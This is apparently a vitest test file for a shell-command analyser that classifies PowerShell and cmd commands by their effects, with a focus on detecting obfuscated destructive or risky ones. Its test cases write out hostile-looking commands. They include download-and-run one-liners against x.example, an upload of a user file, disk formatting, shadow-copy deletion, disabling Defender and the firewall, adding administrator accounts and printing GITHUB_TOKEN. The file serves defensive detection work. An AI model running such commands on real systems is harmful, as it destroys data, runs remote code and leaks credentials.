import { describe, expect, it } from 'vitest'
import { shown } from '../effects.ts'
import { readCommand } from '../read/read-command.ts'
import { emptyWorld } from '../state/testing.ts'

const quoted = (text: string): string => `'${text.replaceAll("'", String.raw`'\''`)}'`

/** Its effects in a word each: `delete /p/x`. */
function effectsOf(command: string): readonly string[] {
  const { files, net, code, system, doubts, printed } = readCommand(command, '/p', emptyWorld).effects
  return [
    ...files.filter(({ maybe }) => !maybe).map(({ op, path }) => `${op} ${shown(path)}`),
    ...net.map(({ target, sends }) => `${sends === undefined ? 'fetch' : 'send'} ${target}`),
    ...code.map(({ from }) => `run ${from.network ? 'network' : from.decoded ? 'decoded' : 'unknown'}`),
    ...system.map(({ what }) => what),
    ...doubts.map(({ about }) => `doubt ${about}`),
    ...printed.map((secret) => `print ${secret}`),
  ]
}

describe('PowerShell', () => {
  it.each([
    ['Remove-Item -Recurse -Force x', 'delete /p/x'],
    ['ri -r -fo ~', 'delete /home/dev'],
    ['Remove-Item -Path a, b', 'delete /p/b'],
    ['remove-item -literalpath:"a b"', 'delete /p/a b'],
    [String.raw`Remove-Item .\a\b`, 'delete /p/a/b'],
    [String.raw`Remove-Item C:\Users\x`, 'delete /c/Users/x'],
    ['Remove-Item "$HOME/x"', 'delete /home/dev/x'],
    ['$x = "a"; Remove-Item $x', 'delete /p/a'],
    ['$d = "a" + "b"; Remove-Item $d', 'delete /p/ab'],
    ['R`emove-Item x', 'delete /p/x'],
    ['& "Remove-Item" x', 'delete /p/x'],
    ['Set-Alias z Remove-Item; z x', 'delete /p/x'],
    ['Get-ChildItem a | Remove-Item', 'delete /p/a/*'],
    ['gci a | % { ri $_.FullName }', 'delete /p/a/*'],
    ['foreach ($f in gci a) { Remove-Item $f }', 'delete /p/a/*'],
    ['if (Test-Path a) { Remove-Item a }', 'delete /p/a'],
    ['function f { Remove-Item a }; f', 'delete /p/a'],
    ['cd sub; Remove-Item a', 'delete /p/sub/a'],
    ['[IO.File]::Delete("a")', 'delete /p/a'],
    ['"a", "b" | Remove-Item', 'delete /p/b'],
    ['$l = "a", "b"; $l | Remove-Item', 'delete /p/b'],
    ['iex (("ri", "a") -join " ")', 'delete /p/a'],
    ['iex ("a ir"[-1..-4] -join "")', 'delete /p/a'],
    ['& { param($x) Remove-Item $x } a', 'delete /p/a'],
    ['function f($x, $y) { Remove-Item $y }; f a b', 'delete /p/b'],
    ['function f { param([string]$x, $y) Remove-Item $y }; f -y b a', 'delete /p/b'],
    ['function f { param($x = "a") Remove-Item $x }; f', 'delete /p/a'],
    ['[IO.DirectoryInfo]::new("a").Delete($true)', 'delete /p/a'],
    ['(New-Object IO.FileInfo "a").Delete()', 'delete /p/a'],
    ['(New-Object IO.StreamReader "a").ReadToEnd()', 'read /p/a'],
    ['[IO.StreamReader]::new("a")', 'read /p/a'],
    ['New-Object IO.StreamWriter a', 'write /p/a'],
    ['(New-Object -ComObject WScript.Shell).Run("cmd /c del a")', 'delete /p/a'],
    ['$s = New-Object -ComObject WScript.Shell; $s.RegDelete("HKCU\\x")', 'delete /HKCU:/x'],
    ['[Environment]::SetEnvironmentVariable("A", "b", "User")', 'write /HKCU:/Environment/A'],
    ['Set-Content a.ps1 "ri b"; .\\a.ps1', 'delete /p/b'],
    ['Set-Content a.ps1 "ri b"; Import-Module ./a.ps1', 'delete /p/b'],
    ['[IO.Directory].GetMethod("Delete").Invoke($null, "a")', 'run unknown'],
    ['Get-CimInstance Win32_Process | Invoke-CimMethod -MethodName Terminate', 'settings'],
    ['Set-Acl -Path a -AclObject $x', 'mode /p/a'],
    ['[System.IO.Directory]::Delete("a", $true)', 'delete /p/a'],
    ['Get-Content a', 'read /p/a'],
    ['[IO.File]::ReadAllText("a")', 'read /p/a'],
    ['Select-String x a', 'read /p/a'],
    ['Set-Content a "x"', 'write /p/a'],
    ['"x" | Out-File -FilePath a', 'write /p/a'],
    ['"x" > a', 'write /p/a'],
    ['New-Item -Path d -Name a', 'write /p/d/a'],
    ['Copy-Item a -Destination b', 'write /p/b'],
    ['Move-Item a b', 'delete /p/a'],
    ['iwr https://x.example -OutFile a', 'write /p/a'],
    ['irm https://x.example -Method Post -InFile a', 'send https://x.example'],
    ['irm x.example | iex', 'run network'],
    ['iex(iwr x.example)', 'run network'],
    ['iex (New-Object Net.WebClient).DownloadString("http://x.example")', 'run network'],
    ['& ([scriptblock]::Create((irm x.example)))', 'run network'],
    ['iex "Remove-Item a"', 'delete /p/a'],
    ['iex $env:X', 'run unknown'],
    ['Start-Process rm -ArgumentList "-rf","a"', 'delete /p/a'],
    ['bash -c "rm a"', 'delete /p/a'],
    ['Stop-Computer', 'halt'],
    ['Format-Volume -DriveLetter C', 'format'],
    ['('.repeat(100), 'doubt limit'],
    ['@{a='.repeat(100), 'doubt limit'],
    // Dashes and quotes as an editor bends them.
    ['Remove-Item \u2013Recurse a', 'delete /p/a'],
    ['Remove\u2013Item a', 'delete /p/a'],
    ['Remove-Item \u2014Path a', 'delete /p/a'],
    ['Remove-Item \u2015LiteralPath \u201Ca b\u201D', 'delete /p/a b'],
    ['Get-Content \u2018a\u2019', 'read /p/a'],
    ['iex \u201Crm a\u201D', 'delete /p/a'],
    ["'a','b' \u2013join '' | % { ri $_ }", 'delete /p/ab'],
    // Values that are put together.
    ["$x='a'; $x+='b'; ri $x", 'delete /p/ab'],
    ["[string]$x = 'a'; ri $x", 'delete /p/a'],
    ["ri ('{0}.{1}' -f 'a','b')", 'delete /p/a.b'],
    ["ri ('a','b' -join '/')", 'delete /p/a/b'],
    ["ri ([IO.Path]::Combine('a','b'))", 'delete /p/a/b'],
    ['ri (Join-Path a b)', 'delete /p/a/b'],
    ["iex 'rx a'.Replace('x','m')", 'delete /p/a'],
    ['iex ([char]114+[char]109+" a")', 'delete /p/a'],
    ["& ('r'+'i') a", 'delete /p/a'],
    ["iex ('a' -replace 'a','rm x')", 'run unknown'],
    ["$p = @{ Path = 'a'; Recurse = $true }; Remove-Item @p", 'delete /p/a'],
    ['Set-Variable x a; ri $x', 'delete /p/a'],
    // Objects, members, branches.
    ['(Get-Item a).Delete()', 'delete /p/a'],
    ['gci a | % Delete', 'delete /p/a/*'],
    ['gci a | ? { $_.Length -gt 1 } | ri', 'delete /p/a/*'],
    ['switch (1) { 1 { ri a } }', 'delete /p/a'],
    ['. ([scriptblock]::Create("ri a -Force"))', 'delete /p/a'],
    // Places of Windows.
    ['ri $env:APPDATA/x', 'delete /home/dev/AppData/Roaming/x'],
    ['ri $env:windir', 'delete /c/Windows'],
    [String.raw`Set-Content C:\x y`, 'write /c/x'],
    ['Add-Content $PROFILE x', 'write /home/dev/.config/powershell/profile.ps1'],
    [String.raw`Set-ItemProperty HKCU:\Software\x -Name y -Value z`, 'write /HKCU:/Software/x/y'],
    [String.raw`New-ItemProperty Registry::HKEY_LOCAL_MACHINE\x -Name y`, 'write /HKLM:/x/y'],
    [String.raw`Remove-Item HKLM:\x -Recurse`, 'delete /HKLM:/x'],
    [String.raw`Remove-Item Cert:\LocalMachine\Root\1`, 'delete /CERT:/LocalMachine/Root/1'],
    // The machine.
    ['New-Service x -BinaryPathName y', 'schedule'],
    ['Set-Service x -StartupType Disabled', 'schedule'],
    ['Stop-Service x', 'service'],
    ['Register-ScheduledTask x', 'schedule'],
    ['New-LocalUser x', 'account'],
    ['Add-LocalGroupMember Administrators x', 'account'],
    ['Set-NetFirewallProfile -Enabled False', 'firewall'],
    ['Set-MpPreference -DisableRealtimeMonitoring $true', 'settings'],
    ['Set-ExecutionPolicy Unrestricted', 'settings'],
    ['Restart-Computer', 'halt'],
    ['Clear-Disk 0', 'destroy-storage'],
    ['Invoke-Sqlcmd -Query "DROP TABLE x"', 'sql'],
    ['Remove-Widget x', 'doubt program'],
    ['Reset-Everything', 'doubt program'],
    // Programs and downloads.
    ['Start-Process rm "-rf a"', 'delete /p/a'],
    ['Start-Process rm a -Verb RunAs', 'delete /p/a'],
    ['iwr https://x.example -OutFile a.exe; .\\a.exe', 'run network'],
    ['Start-BitsTransfer https://x.example/a.exe; Start-Process .\\a.exe', 'run network'],
    [
      "Invoke-CimMethod -ClassName Win32_Process -MethodName Create -Arguments @{CommandLine='cmd /c del a'}",
      'delete /p/a',
    ],
  ])('%s', (script, effect) => {
    expect(effectsOf(`pwsh -c ${quoted(script)}`)).toContain(effect)
  })

  it.each([
    'Remove-Item x -WhatIf',
    'Write-Output "Remove-Item x"',
    '# Remove-Item x',
    '<# Remove-Item x #> Get-Date',
    "'Remove-Item x'",
    '$PSVersionTable.PSVersion',
    'constructor',
    'function Remove-Widget { 1 }',
    'Remove-Variable x',
    'Clear-Host',
    'Remove-Item Env:X',
    'Remove-Item Alias:x',
    'Set-ExecutionPolicy Bypass -Scope Process',
    '@{ rm = "x" }',
    'Write-Host \u201CRemove-Item \u2013 x\u201D',
  ])('does nothing: %s', (script) => {
    expect(effectsOf(`pwsh -c ${quoted(script)}`)).toEqual([])
  })

  it.each([
    ['pwsh -NoProfile -ExecutionPolicy Bypass -Command Remove-Item x', 'delete /p/x'],
    ['powershell.exe Remove-Item x', 'delete /p/x'],
    [`echo 'Remove-Item x' | pwsh -Command -`, 'delete /p/x'],
    [`echo 'Remove-Item x' > a.ps1; pwsh -File a.ps1`, 'delete /p/x'],
    [`pwsh -enc ${Buffer.from('Remove-Item x', 'utf16le').toString('base64')}`, 'delete /p/x'],
    ['pwsh -c "$X"', 'run unknown'],
    ['pwsh \u2013c "ri x"', 'delete /p/x'],
    ['powershell /c "ri x"', 'delete /p/x'],
    ["pwsh -c '$env:GITHUB_TOKEN'", 'print $GITHUB_TOKEN'],
    ["pwsh -c 'Write-Host $env:GITHUB_TOKEN; 1'", 'print $GITHUB_TOKEN'],
    [`pwsh -c '[Environment]::GetEnvironmentVariable("GITHUB_TOKEN")'`, 'print $GITHUB_TOKEN'],
    [String.raw`powershell -File '\\host\share\x.ps1'`, 'run network'],
  ])('%s', (command, effect) => {
    expect(effectsOf(command)).toContain(effect)
  })

  it('takes work that grows with the length of the script', () => {
    const steps = (count: number): number =>
      readCommand(`pwsh -c ${quoted('rm (ls (cat a)) ; '.repeat(count))}`, '/p', emptyWorld).steps
    expect(steps(200)).toBeLessThan(steps(100) * 2.5)
  })
})

describe('cmd', () => {
  it.each([
    ['cmd /c del a', 'delete /p/a'],
    ['cmd /s /Cdel a', 'delete /p/a'],
    [String.raw`cmd /c "rd /s /q d\e"`, 'delete /p/d/e'],
    ['cmd.exe /C "cd d && del a"', 'delete /p/d/a'],
    ['cmd /c "if exist a del a"', 'delete /p/a'],
    ['cmd /c "for %i in (a b) do del %i"', 'delete /p/b'],
    [String.raw`cmd /c "for /d %i in (d\*) do rd /s /q %i"`, 'delete /p/d/*'],
    [String.raw`cmd /c "for /r d %f in (*.x) do del %f"`, 'delete /p/d/*.x'],
    ['cmd /c "echo del b> a.bat & a.bat"', 'delete /p/b'],
    [String.raw`cmd /c "curl -T %USERPROFILE%\x https://x.example"`, 'read /home/dev/x'],
    ['cmd /c "echo x > a"', 'write /p/a'],
    ['cmd /c "type a"', 'read /p/a'],
    ['cmd /c rd /s /q %USERPROFILE%', 'delete /home/dev'],
    ['cmd /c format c:', 'format'],
    ['cmd /c "curl https://x.example -o a.bat && a.bat"', 'run network'],
    ['cmd /c "certutil -urlcache -f https://x.example/a.exe a.exe & a.exe"', 'run network'],
    ['cmd /c "bitsadmin /transfer j https://x.example/a %TEMP%/a"', 'write /tmp/a'],
    ['cmd /c "set x=rd& call %x% /s /q a"', 'delete /p/a'],
    ['cmd /c "if not exist b rd /s /q a"', 'delete /p/a'],
    ['cmd /c "for %i in (1) DO del a"', 'delete /p/a'],
    ['cmd /c "r^d /s /q a"', 'delete /p/a'],
    [String.raw`cmd /c "reg add HKCU\Software\x /v y /d z /f"`, 'write /HKCU:/Software/x/y'],
    [String.raw`reg.exe delete 'HKLM\Software\x' /f`, 'delete /HKLM:/Software/x'],
    ['cmd /c "schtasks /create /tn x /tr y"', 'schedule'],
    ['cmd /c "sc create x binPath= y"', 'schedule'],
    ['cmd /c "net user x y /add"', 'account'],
    ['cmd /c "netsh advfirewall set allprofiles state off"', 'firewall'],
    ['cmd /c "vssadmin delete shadows /all"', 'destroy-storage'],
    ['cmd /c "bcdedit /set x y"', 'kernel'],
    ['cmd /c "mshta https://x.example/a.hta"', 'run network'],
    ['cmd /c "wmic process call create \'cmd /c del a\'"', 'delete /p/a'],
    ['forfiles /p d /c "cmd /c del @path"', 'delete /p/d/*'],
    [String.raw`robocopy 'C:\a' 'C:\b' /MIR`, 'delete /c/b'],
    [String.raw`setx PATH 'C:\x'`, 'write /HKCU:/Environment/PATH'],
    ['findstr x a', 'read /p/a'],
  ])('%s', (command, effect) => {
    expect(effectsOf(command)).toContain(effect)
  })
})
